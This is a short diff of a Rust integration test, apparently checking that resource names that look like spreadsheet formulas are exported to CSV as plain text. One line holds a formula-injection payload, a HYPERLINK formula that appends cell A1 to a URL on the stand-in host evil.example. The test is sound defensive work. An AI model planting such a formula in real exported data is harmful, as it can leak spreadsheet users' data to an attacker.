@@ -241,8 +241,7 @@ async fn settle_and_reverse(app: &TestApp, voucher: i64, booking: i64) {
     );
     // Names that a spreadsheet would run as formulas reach the CSV as plain text.
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
-    rename_resource(&app, &m, line["resource_id"].as_i64().unwrap(), evil).await;
-    let admin = app.login(ADMIN).await;
+    rename_resource(app, &m, line["resource_id"].as_i64().unwrap(), evil).await;
     let acme = format!("/api/v1/organizations/{}", line["enterprise_id"]);
     let renamed = app
         .request(
